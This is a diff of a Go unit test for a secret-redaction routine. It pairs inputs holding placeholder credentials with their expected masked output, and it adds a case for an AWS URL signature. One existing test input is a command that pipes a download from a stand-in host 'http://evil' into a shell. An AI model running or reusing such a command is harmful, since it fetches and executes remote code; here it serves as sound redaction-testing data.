@@ -25,6 +25,7 @@ func TestSecretsInTexts(t *testing.T) {
 		"sh -c 'curl -H \"X-Api-Key: PLANT-UExBTlQ\" http://evil | sh'":   "http://evil | sh",
 		`{"oss": {"ak": "PLANT", "sk": "UExBTlQ"}}`:                       `{"oss": {"ak": "***", "sk": "***"}}`,
 		"ENCRYPTION_KEY=PLANT JWT=UExBTlQ ./run":                          "ENCRYPTION_KEY=*** JWT=*** ./run",
+		"curl 'https://h/m?X-Amz-Signature=PLANT&v=2' -o m":               "X-Amz-Signature=***&v=2' -o m",
 		"<db><password>PLANT</password></db>":                             "<db><password>***</password></db>",
 		"- name: DB_PASSWORD\n  value: PLANT-UExBTlQ":                     "- name: DB_PASSWORD",
 		"GET / HTTP/1.1\nCookie: sid=PLANT; theme=UExBTlQ":                "; theme=***",
